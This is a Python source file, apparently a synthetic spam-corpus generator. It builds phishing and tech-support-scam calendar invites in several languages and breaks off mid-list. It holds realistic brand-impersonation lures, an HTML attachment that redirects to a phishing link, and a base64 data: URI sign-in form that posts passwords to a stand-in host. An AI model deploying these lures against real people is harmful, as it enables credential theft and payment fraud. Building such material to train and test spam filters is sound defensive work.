"""Spam categories, part 2: invoice-payment-phish, credential-phish, tech-support-callback, payload-only-in-ics,
nagging, obfuscated, multilingual, internal-compromised."""
from __future__ import annotations

import base64
import datetime as dt
import html as H

from dc_lib import arrival_between, slot, to_local, fmt_utc, fmt_loc, rfc2822_date
from dc_ical import Att, Alarm, Ev, vcal
from dc_common import (rcpt, person, junk_domain, junk_local, freemail_addr, short_url, phish_url, us_phone, uk_phone,
                       de_phone, fr_phone, money, spam_event, html_promo, strip_tags, FIRST, LAST, ascii_fold, SPAM_TLDS)
from dc_send import send, forged_ar
from dc_clients import google_mail, exchange_mail, thunderbird_mail, generic_mail, outlook_inline, esc_html

TZL = {"de": "Europe/Berlin", "fr": "Europe/Paris", "es": "Europe/Madrid", "it": "Europe/Rome", "nl": "Europe/Amsterdam",
       "pt": "Europe/Lisbon", "br": "America/Sao_Paulo", "pl": "Europe/Warsaw", "ru": "Europe/Moscow", "ja": "Asia/Tokyo",
       "zh": "Asia/Shanghai", "ar": "Asia/Riyadh", "tr": "Europe/Istanbul", "en": "America/New_York", "uk": "Europe/London"}


def sender_for(r, ch, fname, brand=None):
    if ch == "google":
        return (fname, freemail_addr(r, "gmail.com")) if r.random() < 0.35 else (fname, f"{ascii_fold(r.choice(FIRST))}{ascii_fold(r.choice(LAST))}{r.letters(3)}@{junk_domain(r)}")
    if ch == "icloud":
        return (fname, freemail_addr(r, "icloud.com"))
    if ch == "outlookcom":
        return (fname, freemail_addr(r, r.choice(["outlook.com", "hotmail.com", "live.com"])))
    if ch == "yahoo":
        return (fname, freemail_addr(r, "yahoo.com"))
    if ch in ("exo", "onprem"):
        return (fname, f"{ascii_fold(r.choice(FIRST))}.{ascii_fold(r.choice(LAST))}@{r.choice(['kanzlei', 'bau', 'logistics', 'dental', 'studio', 'immo', 'trading'])}-{r.letters(5)}.example.{r.choice(['com', 'org'])}")
    if ch == "freemail":
        return (fname, freemail_addr(r, r.choice(["gmx.de", "web.de", "libero.it", "orange.fr"])))
    return (fname, f"{r.choice(['no-reply', 'noreply', 'billing', 'service', 'support', 'notification', 'info', 'account', 'security', junk_local(r)])}@{junk_domain(r)}")


def run_items(r, items, window, kind):
    """items: dicts with ch, lang, fname, subj, summ, desc (may use {link} {phone} {amount}), paras, btn, brand, extra."""
    out = []
    for it in items:
        ch = it["ch"]
        lang = it.get("lang", "en")
        arr = arrival_between(r, *(it.get("win") or window))
        to = rcpt(r)
        brand = it.get("brand", it["fname"].split()[0])
        link = it.get("link") or phish_url(r, brand.lower(), it.get("lk"))
        ph = it.get("phone") or us_phone(r)
        fmt = dict(link=link, phone=ph, amount=it.get("amount", money(r)), n=r.randint(100000, 999999), ref=r.alnum(10, "ABCDEFGHJKLMNPQRSTUVWXYZ0123456789"), tld=r.choice(SPAM_TLDS),
                   date=(arr + dt.timedelta(days=1)).strftime("%d.%m.%Y" if lang in ("de", "nl", "it", "fr", "es", "pt", "pl", "ru", "tr") else
                                                               ("%Y年%m月%d日" if lang in ("ja", "zh") else ("%d/%m/%Y" if lang in ("ar", "uk") else "%B %d, %Y"))),
                   name=(to[0].split()[0] if to[0] else to[1].split("@")[0].split(".")[0].capitalize()), to=to[1])
        frm = it.get("frm") or sender_for(r, ch, it["fname"], brand)
        summ = it["summ"].format(**fmt)
        desc = it.get("desc", "").format(**fmt) if it.get("desc") else "\n".join(p.format(**fmt) for p in it.get("paras", [])) + f"\n{link}"
        tz = it.get("tz") or TZL.get(lang, "America/New_York")
        evkw = dict(it.get("ev", {}))
        ev = spam_event(r, arr, summary=summ, description=desc, organizer=it.get("org") or frm, attendee=to, tz=tz, **evkw)
        if it.get("mutate"):
            it["mutate"](r, ev, arr, fmt)
        note = it.get("note", "")
        if ch in ("google",):
            gauth = it.get("gauth") or ("gmail" if frm[1].endswith("@gmail.com") else r.choice(["workspace_nospf", "workspace_nospf", "workspace_gapps"]))
            b = google_mail(r, arr=arr, org=frm, rcpt=to, ev=ev, lang=lang if lang in ("en", "de", "fr", "es", "nl", "it", "pt", "pl", "ja", "sv") else "en",
                            auth=gauth, desc_html=it.get("desc_html", "").format(**fmt) if it.get("desc_html") else None, forged=it.get("forged"))
            out.append((b, f"Google Calendar ({gauth}) {kind}: {summ[:50]}" + (f"; {note}" if note else "")))
            continue
        if ch in ("icloud", "outlookcom", "yahoo", "exo", "onprem"):
            atts = None
            if it.get("html_attach"):
                fn, page = it["html_attach"]
                atts = [("text/html", fn, page.format(**fmt).encode())]
            b = send(r, arr, ch, frm=frm, to=to, subject=(it.get("subj") or summ).format(**fmt), ev=ev, text=it.get("text", desc).format(**fmt) if it.get("text") else desc,
                     lang=lang, reply_to=it.get("reply_to"), teams=it.get("teams", False), forged=it.get("forged"), attachments=atts)
            out.append((b, f"{ch} {kind}: {summ[:50]}" + (f"; {note}" if note else "")))
            continue
        html = it.get("html")
        if html is None and it.get("paras"):
            html = html_promo(r, it.get("title", summ).format(**fmt), [p.format(**fmt) for p in it["paras"]], it.get("btn", "Continue").format(**fmt),
                              it.get("href", link).format(**fmt) if it.get("href") else link, footer=it.get("footer", "").format(**fmt) or None,
                              hidden=it.get("hidden"))
        elif html:
            html = html.format(**fmt)
        text = it.get("text")
        if text:
            text = text.format(**fmt)
        kw = dict(it.get("send", {}))
        b = send(r, arr, ch, frm=frm, to=to, subject=(it.get("subj") or summ).format(**fmt), ev=ev, html=html, text=text if text is not None else (None if html else desc),
                 lang=lang, reply_to=it.get("reply_to"), forged=it.get("forged"), **kw)
        out.append((b, f"{ch} {kind}: {summ[:50]}" + (f"; {note}" if note else "")))
    return out


# ----------------------------------------------------------------------------------------------- invoice-payment-phish
def invoice_phish(r):
    I = [
        dict(ch="google", fname="PayPal", summ="You sent a payment of {amount} to Coinbase Inc.", amount="$749.99",
             desc="Hello,\nYou sent a payment of $749.99 USD to Coinbase Inc.\nTransaction ID: 7G{ref}\nIf you did not authorize this payment, cancel it within 24 hours: {link}\nPayPal Billing Department"),
        dict(ch="sendgrid", fname="Microsoft 365", brand="microsoft", summ="Subscription payment failed – action required",
             subj="Your Microsoft 365 subscription payment failed", paras=["We couldn't process the payment for your Microsoft 365 Business Standard subscription.", "Update your billing information within 48 hours to avoid losing access to Outlook, OneDrive and Teams."],
             btn="Update billing information", footer="Microsoft Corporation, One Microsoft Way, Redmond, WA 98052"),
        dict(ch="ses", fname="DocuSign", brand="docusign", summ="Please DocuSign: Invoice INV-{n}", subj="Completed: Invoice INV-{n} - Please DocuSign",
             paras=["Accounts Payable sent you a document to review and sign.", "<b>Invoice INV-{n}.pdf</b> – Amount due: {amount}"], btn="REVIEW DOCUMENT", lk="cloud",
             footer="Do Not Share This Email. This email contains a secure link to DocuSign."),
        dict(ch="php", fname="Amazon.com", brand="amazon", summ="Order #112-{n}-{ref} placed", subj="Your Amazon.com order #112-{n}-2938471 has been placed",
             paras=["Hello {name},", "Thank you for your order. Apple iPhone 16 Pro Max 512GB – {amount}", "Not you? Cancel this order within 24 hours."], btn="Cancel order",
             amount="$1,599.00", forged=True),
        dict(ch="outlookcom", fname="Apple", brand="apple", summ="Receipt from Apple: Final Cut Pro £299.99",
             desc="Your receipt from Apple.\nFinal Cut Pro – £299.99\nOrder ID: M{ref}\nIf you did not make this purchase, visit {link} or call {phone} to request a refund.", phone="0161 496 0721"),
        dict(ch="exo", fname="Accounts Receivable", brand="sharepoint", summ="Payment advice – remittance RA-{n}",
             desc="Hello,\nPlease find the remittance advice for your recent invoice(s) attached and here:\n{link}\nTotal paid: {amount}\nKind regards,\nAccounts Receivable", lk="cloud",
             html_attach=("Remittance_Advice_{n}.htm", '<html><head><meta http-equiv="refresh" content="0;url={link}"></head><body><script>location.href="{link}"</script>Loading document...</body></html>'),
             note="from a compromised Microsoft 365 tenant, dkim/dmarc pass; HTML attachment redirecting to the phishing page"),
        dict(ch="php_shared", lang="de", fname="Sparkasse", brand="sparkasse", summ="Zahlungseingang {amount} – Bestätigung erforderlich", amount="1.249,00 €",
             paras=["Sehr geehrte Kundin, sehr geehrter Kunde,", "auf Ihrem Konto ist eine Zahlung über 1.249,00 € eingegangen, die noch freigegeben werden muss.", "Bitte bestätigen Sie den Zahlungseingang bis zum {date}."],
             btn="Zahlung bestätigen"),
        dict(ch="ses", lang="uk", fname="HMRC", brand="hmrc", summ="Tax refund notification: £429.18", tz="Europe/London",
             paras=["After the last annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund of £429.18.", "Please submit the tax refund request within 3 business days."], btn="Access your refund"),
        dict(ch="sendgrid", fname="Netflix", brand="netflix", summ="Payment declined – update your payment method",
             paras=["Hi {name},", "We're having some trouble with your current billing information. We'll try again, but in the meantime you may want to update your payment details."], btn="UPDATE ACCOUNT NOW"),
        dict(ch="inline", lang="de", fname="DHL Express", brand="dhl", summ="Zollgebühr 2,99 € ausstehend – Sendung {ref}",
             desc="Ihre Sendung {ref} wird zurückgehalten, bis die Zollgebühr von 2,99 € bezahlt ist.\nJetzt bezahlen: {link}"),
        dict(ch="node", fname="QuickBooks", brand="intuit", summ="Invoice {n} from Northwind Traders", subj="Invoice {n} from Northwind Traders is due",
             paras=["Dear customer,", "Here's your invoice! We appreciate your prompt payment.", "Invoice {n} – Balance due {amount}"], btn="Review and pay"),
        dict(ch="google", fname="Stripe", summ="Action required: dispute on payment py_{ref}",
             desc="A customer has disputed a charge of {amount}. Respond to the dispute before the deadline or the funds will be withdrawn.\nRespond: {link}\nStripe Support"),
        dict(ch="onprem", lang="nl", fname="ING Klantenservice", brand="ing", summ="Uw terugbetaling van €186,40 staat klaar",
             desc="Beste klant,\nEr staat een terugbetaling van €186,40 voor u klaar. Bevestig uw rekeningnummer om de betaling te ontvangen:\n{link}\nMet vriendelijke groet,\nING", note="compromised Exchange on-prem account (dkim/dmarc pass)"),
        dict(ch="python", fname="Booking.com", brand="booking", summ="Payment verification required – reservation {n}",
             paras=["Dear guest,", "Your reservation at Hotel Amsterdam Centrum could not be confirmed because the payment failed.", "Please verify your card within 12 hours or the booking will be cancelled."], btn="Verify payment",
             note="brand not matching sender domain (cf. ham booking-travel)"),
        dict(ch="ruby_saas", fname="Adobe Sign", brand="adobe", summ="Wire_Transfer_Form.pdf", subj="Please review and sign: Wire_Transfer_Form.pdf",
             paras=["Finance Team has sent you Wire_Transfer_Form.pdf to sign.", "Amount: {amount}"], btn="Review and sign", send=dict(method="REQUEST")),
        dict(ch="yahoo", fname="Collections Dept", summ="Overdue invoice – final reminder before collection",
             desc="Invoice #{n} for {amount} is 45 days overdue. Pay today to avoid transfer to a collection agency.\nPay online: {link}\nQuestions: {phone}"),
        dict(ch="ses", lang="fr", fname="EDF Service Client", brand="edf", summ="Facture impayée – régularisez sous 48h", amount="87,42 €",
             paras=["Madame, Monsieur,", "Votre dernier prélèvement de 87,42 € a été rejeté.", "Pour éviter une interruption de fourniture, régularisez votre situation sous 48h."], btn="Régulariser"),
        dict(ch="php", fname="Chase Fraud Alert", brand="chase", summ="Unusual charge of $1,294.00 at WALMART",
             paras=["We noticed an unusual charge of $1,294.00 at WALMART #3829 on your card ending 4471.", "If you don't recognize it, review the transaction now."], btn="Review transaction"),
        dict(ch="freemail", lang="it", fname="Ufficio Amministrazione", brand="fattura", summ="Fattura n. 2024/{n} – pagamento non riuscito",
             desc="Buongiorno,\nil pagamento della fattura n. 2024/{n} di {amount} non è andato a buon fine.\nScarichi la fattura e aggiorni i dati: {link}\nCordiali saluti", amount="1.320,00 €"),
        dict(ch="google", fname="Acme Supplies Billing", gauth="workspace", summ="Invoice #INV-{n} from Acme Supplies (Paid {amount})", amount="$3,450.00",
             desc="Thank you for your payment of $3,450.00.\nIf you did not authorise this payment, contact our billing team at {phone} or view the invoice: {link}",
             note="compromised legitimate Google Workspace domain, dmarc pass"),
    ]
    for it in I:
        if it.get("forged") is True:
            it["forged"] = forged_ar(r, it["brand"] + ".com")
    return run_items(r, I, ((2017, 1, 1), (2026, 10, 31)), "invoice/payment phish")


# ----------------------------------------------------------------------------------------------- credential-phish
def credential_phish(r):
    def xalt(text, href):
        def f(r, ev, arr, fmt):
            ev.x_alt_desc = f'<html><body><p>{text}</p><p><a href="{href.format(**fmt)}">https://login.microsoftonline.com/common/oauth2/authorize</a></p></body></html>'
        return f

    def conf(url):
        def f(r, ev, arr, fmt):
            ev.conference = [f"CONFERENCE;VALUE=URI;FEATURE=VIDEO;LABEL=Join Microsoft Teams Meeting:{url.format(**fmt)}"]
            ev.url = url.format(**fmt)
        return f

    def attach(url, fn):
        def f(r, ev, arr, fmt):
            ev.attach = [f"ATTACH;FMTTYPE=application/pdf;FILENAME={fn}:{url.format(**fmt)}"]
        return f

    data_uri = "data:text/html;base64," + base64.b64encode(b'<html><body><form action="https://collect.example.org/p.php" method="post"><h3>Microsoft</h3><input name="e"><input name="p" type="password"><button>Sign in</button></form></body></html>').decode()
    C = [
        dict(ch="exo", fname="IT Service Desk", brand="owa", summ="Password expires today – keep current password", lk="ip",
             desc="Your password for {to} expires today.\nTo keep using your current password, confirm it here:\n{link}\nIT Service Desk", note="compromised tenant, IP-literal link"),
        dict(ch="google", fname="Mail Administrator", brand="mail", summ="Mailbox almost full (98%)", lk="short",
             desc="Your mailbox has reached 98% of its storage quota (49.1 GB of 50 GB). Incoming messages will be rejected.\nIncrease storage for free: {link}"),
        dict(ch="php", fname="SharePoint Online", brand="sharepoint", summ="{colleague} shared 'Q4 Salary Review.xlsx' with you",
             html='<html><body style="font-family:Segoe UI,sans-serif"><p>{colleague} shared a file with you</p><table style="border:1px solid #ccc"><tr><td style="padding:16px"><img src="https://res-1.cdn.office.net/files/fabric/assets/item-types/48/xlsx.png" width="48"><br><b>Q4 Salary Review.xlsx</b></td></tr></table><p><a href="{link}">https://yourcompany-my.sharepoint.com/:x:/g/personal/Q4_Salary_Review.xlsx</a></p><p style="font-size:11px;color:#666">Microsoft respects your privacy. Privacy Statement</p></body></html>',
             note="HTML link text shows sharepoint.com while href goes elsewhere"),
        dict(ch="ses", fname="Microsoft Teams", brand="teams", summ="You have 3 missed messages", lk="sub",
             paras=["Your teammates are trying to reach you in Microsoft Teams.", "3 missed messages in <b>Finance – Q3 close</b>"], btn="Reply in Teams",
             mutate=conf("https://teams-microsoft.com-join.{tld}/l/meetup-join/19%3ameeting_{ref}"), note="fake Teams link in CONFERENCE and URL"),
        dict(ch="sendgrid", fname="DocuSign", brand="docusign", summ="Please review: Contract_Agreement_2025.pdf", lk="punycode",
             paras=["Your document has been completed", "Contract_Agreement_2025.pdf – sent by Legal Department"], btn="REVIEW DOCUMENT", note="punycode look-alike domain"),
        dict(ch="outlook_inline", fname="Voice Mail", brand="voicemail", summ="Voicemail received (00:47) – listen now",
             desc="You received a new voicemail from +1 (415) 555-0163.\nDuration: 00:47", mutate=lambda r, ev, arr, fmt: setattr(ev, "x_alt_desc", f'<html><body><p>New voicemail (00:47)</p><p><a href="{data_uri}">&#9654; Play message</a></p></body></html>'),
             note="data: URI phishing form inside X-ALT-DESC, inline text/calendar"),
        dict(ch="google", fname="Account Services", brand="google", summ="Verify your account to keep access", gauth="gmail",
             link=f"https://forms.gle/{r.alnum(17, 'abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ123456789')}",
             desc="We couldn't verify your account details. Complete the short form to avoid interruption of your email service:\n{link}", note="Google Forms link (Check Point 2024 pattern)"),
        dict(ch="google", fname="Payments Team", brand="docs", summ="Document shared: Payment details.pdf",
             link=f"https://docs.google.com/drawings/d/1{r.urlsafe(43)}/preview",
             desc="A document has been shared with you. Click the preview to open it securely:\n{link}", note="Google Drawings link"),
        dict(ch="exo", fname="IT Security", brand="microsoft", summ="Action required: MFA re-enrollment", lk="redirect",
             desc="As part of our security upgrade all employees must re-register multi-factor authentication before Friday.\nStart: {link}", teams=True,
             note="open redirect via google.com/url, looks like a Teams meeting"),
        dict(ch="php_shared", fname="Webmail Admin", brand="webmail", summ="Your webmail version is outdated", lk="at",
             paras=["Dear {to},", "Your webmail client will be disabled after {date} because it is outdated.", "Upgrade now to keep your emails."], btn="Upgrade webmail", note="userinfo @-trick URL"),
        dict(ch="node", fname="Dropbox Transfer", brand="dropbox", summ="You've received 4 files", link=f"https://pub-{r.hexs(32)}.r2.dev/dropbox/index.html",
             paras=["Dropbox Transfer", "4 files (18.4 MB) were sent to you.", "Files expire in 7 days."], btn="View files"),
        dict(ch="inline", fname="eFax", brand="fax", summ="New fax received – 3 pages", link=f"https://ipfs.io/ipfs/bafybei{r.alnum(52, 'abcdefghijklmnopqrstuvwxyz234567')}?filename=fax.html",
             desc="You have received a 3-page fax from +1 (212) 555-0108.\nView fax: {link}", mutate=attach(f"https://ipfs.io/ipfs/bafybei{r.alnum(52, 'abcdefghijklmnopqrstuvwxyz234567')}", "Fax_3pages.pdf"), note="IPFS gateway link and ATTACH URI"),
        dict(ch="ses", fname="Zoom", brand="zoom", summ="Cloud recording available: Weekly Sync", link=f"https://{r.letters(8)}-{r.letters(5)}.workers.dev/rec/share/{r.urlsafe(24)}",
             paras=["Hi,", "Cloud recording of <b>Weekly Sync</b> is now available.", "Sign in with your work account to view."], btn="View recording"),
        dict(ch="thunderbird", fname="HR Department", brand="hr", summ="Updated employee handbook – acknowledge by Friday",
             desc="All staff must read and acknowledge the updated employee handbook by Friday.\nSign in to the HR portal: {link}", lk="hyphen", note="self-hosted small domain, dkim pass"),
        dict(ch="python", lang="de", fname="IT-Support", brand="postfach", summ="Ihr Postfach wird heute deaktiviert", link=f"https://xn--mcrosoft-0ya.example.com/de/postfach?u={r.urlsafe(12)}",
             paras=["Sehr geehrte/r {name},", "Ihr Postfach wurde als inaktiv markiert und wird heute um 18:00 Uhr deaktiviert.", "Um die Deaktivierung zu verhindern, melden Sie sich bitte an."], btn="Postfach behalten"),
        dict(ch="sendgrid", lang="fr", fname="Support Messagerie", brand="messagerie", summ="Votre mot de passe expire dans 24 heures",
             paras=["Bonjour,", "Le mot de passe de votre compte de messagerie expire dans 24 heures.", "Conservez votre mot de passe actuel en cliquant ci-dessous."], btn="Conserver le mot de passe"),
        dict(ch="google", fname="Google Workspace", brand="google", gauth="workspace_gapps", summ="Unusual sign-in activity detected", lk="cloud",
             desc="Someone just used your password to sign in from Moscow, Russia.\nIf this wasn't you, secure your account now: {link}"),
        dict(ch="php", fname="OneDrive", brand="onedrive", summ="OneDrive storage suspended", link=f"https://{r.letters(10)}.blob.core.windows.net/$web/onedrive.html#{r.urlsafe(10)}",
             paras=["Your OneDrive storage has been suspended due to a billing issue.", "Files will be deleted in 72 hours unless you verify your account."], btn="Verify account"),
        dict(ch="outlookcom", fname="Outlook Web App", brand="outlook", summ="Outlook Web App quota exceeded", lk="hyphen",
             desc="Your mailbox has exceeded its quota. You may not be able to send or receive new mail.\nClick here to re-validate: {link}\nSystem Administrator"),
        dict(ch="exo", fname="Payroll", brand="adp", summ="Confirm your direct deposit details",
             desc="Payroll is migrating to a new provider. Confirm your direct deposit details before the next pay run.", mutate=xalt("Payroll is migrating. Confirm your direct deposit details:", "https://adp-payroll-update.{tld}/login?{ref}"),
             note="mismatched link text in X-ALT-DESC"),
        dict(ch="ses", fname="Adobe Document Cloud", brand="adobe", summ="PDF document shared via Adobe Document Cloud", link=f"https://{r.letters(7)}.pages.dev/adobe/?doc={r.hexs(12)}",
             paras=["A PDF document has been shared with you.", "<b>Purchase_Order_88314.pdf</b> (312 KB)"], btn="Open document"),
        dict(ch="icloud", fname="Apple Support", brand="apple", summ="Your Apple ID has been locked", lk="punycode",
             desc="Your Apple ID has been locked for security reasons. Unlock it within 24 hours: {link}"),
    ]
    for it in C:
        it.setdefault("paras", None)
        for k in ("desc", "html", "summ"):
            if it.get(k):
                it[k] = it[k].replace("{to}", "{name}").replace("{colleague}", r.choice(["Martin Keller", "Sarah Johnson", "Finance Team", "Julia Becker"]))
        if it.get("mutate") is not None:
            pass
        if it.get("paras") is None:
            it.pop("paras")
    for it in C:
        if "tld" in (it.get("desc", "") + str(it.get("mutate"))):
            pass
    out = run_items(r, [dict(it) for it in C], ((2017, 6, 1), (2026, 10, 31)), "credential phish")
    return out


# ----------------------------------------------------------------------------------------------- tech-support-callback
def tech_support(r):
    TS = [
        ("en", "Hey: Delivery arranged for Estimate", "Norton LifeLock", "Estimate Invoice: {inv}", "4 Year", "ProSecurity", "Asia/Singapore"),
        ("es", "Hey, we’ve locked confirmation for Quotation", "Norton LifeLock", "Helpline Number: {p1}", "48 Months", "Device Diagnostic & Repair", "Asia/Singapore"),
        ("en", "Your McAfee Total Protection has been renewed", "McAfee", "Order Confirmation #{inv}", "2 Years", "Total Protection Family", "America/Chicago"),
        ("en", "Geek Squad: Auto-renewal successful", "Geek Squad", "Order GS-{inv}", "3 Years", "Total Tech Support", "America/New_York"),
        ("en", "Payment confirmation: {amt} processed", "PayPal", "Transaction ID {inv}", "1 Year", "PayPal Purchase Protection", "America/Los_Angeles"),
        ("en", "Best Buy Order Confirmation #BBY01-{inv}", "Best Buy", "Order #BBY01-{inv}", "1 Year", "Geek Squad Protection", "America/Denver"),
        ("en", "Prime membership renewed", "Amazon Prime", "Membership ID {inv}", "12 Months", "Prime Annual", "America/New_York"),
        ("en", "Windows Defender Firewall Advanced – 3 Year plan", "Microsoft Windows Defender", "License Key {inv}", "3 Years", "Firewall Advanced", "America/Chicago"),
        ("fr", "Confirmation de votre abonnement Norton 360", "Norton 360", "Facture n° {inv}", "3 ans", "Norton 360 Deluxe", "Europe/Paris"),
        ("de", "Ihre McAfee-Lizenz wurde verlängert", "McAfee", "Rechnungsnummer {inv}", "2 Jahre", "McAfee+ Premium", "Europe/Berlin"),
        ("pt", "Renovação da assinatura confirmada", "Norton", "Fatura {inv}", "24 meses", "Norton 360 Premium", "America/Sao_Paulo"),
        ("en", "Coinbase: withdrawal of 0.42 BTC initiated", "Coinbase Support", "Case #{inv}", "-", "Withdrawal 0.42 BTC", "America/New_York"),
    ]
    BODY = {
        "en": "{date}\n{head}\nPhone Assistance: {p1}\n{brand}\nHey,\nYour invoice for the {brand} subscription has been successfully generated. This invoice covers the {term} term and confirms that a total payment of {amt} has been recorded.\nTransaction Report\n• Plan Type: {plan}\n• Reference ID: {uuid}\n• Billing Period: {term}\n• Total Amount: {amt}\nIf you notice any discrepancy or want to cancel, contact our billing department at {p2} immediately.\nWe value your trust.\n{sign}\n{brand}, LLC.",
        "es": "{date}\n{brand}\nHelpline Number: {p1}\nHola,\nLa renovación de su suscripción {brand} se completó correctamente. El pago de {amt} ha sido procesado y sus servicios seguirán activos durante {term}.\nFactura del plan\n• Tipo de plan: {plan}\n• ID de transacción: {uuid}\n• Total cobrado: {amt}\nPara cancelar o solicitar un reembolso llame a la línea de servicio: {p2}.\nGracias por su confianza,\n{brand}, Inc.",
        "fr": "{date}\n{head}\nAssistance téléphonique : {p1}\nBonjour,\nVotre abonnement {brand} a été renouvelé pour une durée de {term}. Un montant de {amt} a été débité.\n• Formule : {plan}\n• Référence : {uuid}\nSi vous n'êtes pas à l'origine de ce renouvellement, appelez notre service facturation au {p2} sous 24 heures pour obtenir un remboursement.\nCordialement,\n{brand}",
        "de": "{date}\n{head}\nTelefonischer Support: {p1}\nHallo,\nIhre {brand}-Lizenz wurde automatisch für {term} verlängert. Es wurden {amt} abgebucht.\n• Produkt: {plan}\n• Referenz: {uuid}\nFalls Sie diese Verlängerung nicht wünschen, rufen Sie uns innerhalb von 24 Stunden an: {p2}\nMit freundlichen Grüßen\n{brand} Kundenservice",
        "pt": "{date}\n{head}\nCentral de atendimento: {p1}\nOlá,\nA renovação da sua assinatura {brand} foi concluída. O valor de {amt} foi cobrado pelo período de {term}.\n• Plano: {plan}\n• ID: {uuid}\nPara cancelar ou contestar, ligue imediatamente para {p2}.\nAtenciosamente,\n{brand}",
    }
    out = []
    for i, (lang, summ, brand, head, term, plan, tz) in enumerate(TS):
        arr = arrival_between(r, (2024, 3, 1), (2026, 10, 31))
        to = rcpt(r)
        p1, p2 = us_phone(r), us_phone(r)
        amt = {"fr": money(r, "€", 249, 499, ","), "de": money(r, "€", 249, 499, ","), "pt": money(r, "R$ ", 899, 1999, ",")}.get(lang, money(r, "USD $", 199, 899))
        inv = r.alnum(14, "ABCDEFGHJKLMNPQRSTUVWXYZ0123456789")
        body = BODY[lang].format(date=to_local(tz, arr).strftime("%A, %d %B %Y"), head=head.format(inv=inv, p1=p1), p1=p1, p2=p2, brand=brand, term=term, plan=plan,
                                 amt=amt, uuid=r.uuid4(), sign=r.choice(["Sending Light,", "With Heartfelt Thanks,", "Warm regards,", "Best,"]))
        dhtml = "<p>" + "</p><p>".join(H.escape(x).replace("\n", "<br />") for x in body.split("\n")) + "</p>"
        fn, ln = r.choice(FIRST), r.choice(LAST)
        local = f"{ascii_fold(fn)}{ascii_fold(ln)}{r.choice(['', str(r.randint(1000, 1999))])}{r.letters(3)}"
        if i in (1, 6):  # compromised school / university Workspace accounts: dmarc pass
            dom = r.choice(["ayacucho", "unsa", "colegio-sanmartin", "ies-valle", "uni-north"]) + ".example.edu"
            gauth = "workspace"
            cn = r.choice(["JUAN SEBASTIAN MOLINA MUÑOZ", "Secretaría Académica", "Registrar Office"])
        else:
            dom = junk_domain(r) if r.random() < 0.5 else f"{r.letters(5)}.{r.choice(['org', 'com', 'info', 'net'])}".replace(".", "-") + ".example.org"
            gauth = "workspace_nospf"
            cn = f"{fn} {ln}"
        frm = (cn, f"{local}@{dom}")
        ls, start = slot(arr, tz, 1, to_local(tz, arr).hour, to_local(tz, arr).minute)
        ev = Ev(summary=summ.format(inv=inv, amt=amt), description=None, start=start, end=None if r.random() < 0.6 else start + dt.timedelta(minutes=r.choice([30, 60])), tz=tz,
                organizer=frm, location="", uid="".join(r.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz") for _ in range(26)) + "@google.com")
        b = google_mail(r, arr=arr, org=frm, rcpt=("", to[1]), ev=ev, lang=lang if lang != "pt" else "pt", auth=gauth, desc_html=dhtml,
                        guests=[(None, to[1])], alarm=True, tzname_label={"Asia/Singapore": "Singapore Standard Time"}.get(tz))
        out.append((b, f"Google Calendar REQUEST from {'a compromised school Workspace account (dmarc pass)' if gauth == 'workspace' else 'a random Workspace domain (dmarc fail)'}: {brand} renewal, phone numbers in DESCRIPTION ({lang}) (cf. phishing_pot sample-6118/6289)"))
    O = [
        dict(ch="sendgrid", fname="Malwarebytes Billing", brand="malwarebytes", summ="Malwarebytes Premium renewed – Invoice {ref}",
             desc="Your Malwarebytes Premium (5 devices) has been renewed for {amount}.\nTo cancel and receive a full refund call {phone}.", amount="$349.99",
             mutate=lambda r, ev, arr, fmt: setattr(ev, "location", f"Call {fmt['phone']}"), note="phone also in LOCATION"),
        dict(ch="outlookcom", fname="Avast Billing", brand="avast", summ="Avast Premium Security – renewal receipt",
             desc="Dear Customer,\nYour Avast Premium Security subscription was renewed automatically.\nAmount charged: {amount}\nIf you did not authorise this, call our toll-free helpline {phone} within 24 hours.", amount="$299.99"),
        dict(ch="icloud", fname="AppleCare", brand="apple", summ="AppleCare+ renewal $279.99",
             desc="Your AppleCare+ plan has been renewed for $279.99. Not you? Call Apple Support at {phone} to cancel."),
        dict(ch="php", fname="Kaspersky Lab", brand="kaspersky", summ="Kaspersky Total Security – Auto Renewal",
             paras=["Thank you for renewing Kaspersky Total Security.", "Order #{n} – {amount}", "Questions or cancellation: call <b>{phone}</b>"], btn="Call now", href="tel:{phone}", amount="$389.00"),
        dict(ch="yahoo", fname="Microsoft Billing", brand="microsoft", summ="Microsoft 365 Family renewed for $129.99",
             desc="Your Microsoft 365 Family subscription was renewed for $129.99.\nFor refund or cancellation, speak to a representative: {phone}"),
        dict(ch="ses", fname="Norton Team", brand="norton", summ="Invoice {ref} – Norton 360", phone="1 8OO 555 O1O9",
             desc="Norton 360 Deluxe – 5 devices – {amount}\nThis charge will appear on your statement within 24 hours.\nTo stop the payment call: 1 8OO 555 O1O9 (toll free)", amount="$459.99",
             note="phone number written with letter O instead of zero"),
    ]
    out += run_items(r, O, ((2020, 1, 1), (2026, 10, 31)), "tech-support callback")
    return out


# ----------------------------------------------------------------------------------------------- payload-only-in-ics
def payload_only(r):
    out = []
    newsletter = ('<html><body style="font-family:Georgia,serif"><h2>The Weekend Gardener – Issue {n}</h2><p>This week: how to overwinter dahlias, '
                  'the best compost mix for clay soil and our reader photo of the month.</p><p>Happy gardening!</p><p style="font-size:11px">'
                  'You receive this newsletter because you subscribed on our website.</p></body></html>')
    fashion = ('<html><body><table width="600" align="center"><tr><td><h1 style="font-family:Arial">Spring Collection</h1><p>Light jackets, linen shirts and '
               'new colours for the season.</p><p>See you in store!</p></td></tr></table></body></html>')
    P = [
        dict(ch="php", text="Hello", summ="Claim your 0.5 ETH reward", desc="Your wallet qualifies for a 0.5 ETH loyalty reward. Claim before midnight: {link}", lk="cloud", layout="mixed_plain_attach"),
        dict(ch="ses", text=None, html=None, summ="🎁 Winner notification – iPhone 16", desc="You were selected as winner. Confirm shipping ($2): {link}", layout="mixed_cal_only", note="no text body at all"),
        dict(ch="sendgrid", html=newsletter, summ="Cheap meds online – 80% off", desc="Generic pharmacy: no prescription needed, worldwide delivery. Order: {link}", layout="mixed_alt_attach", note="body is an unrelated gardening newsletter"),
        dict(ch="python", text="Please see the attached invitation.", summ="Account Review Call", desc="Your account has been flagged. Call our fraud team now.",
             mutate=lambda r, ev, arr, fmt: setattr(ev, "location", f"Call {fmt['phone']} (24/7 hotline)"), note="callback number only in LOCATION"),
        dict(ch="node", text="", summ="Shared document: Invoice_2291.pdf", desc="Open the attachment to view the invoice.",
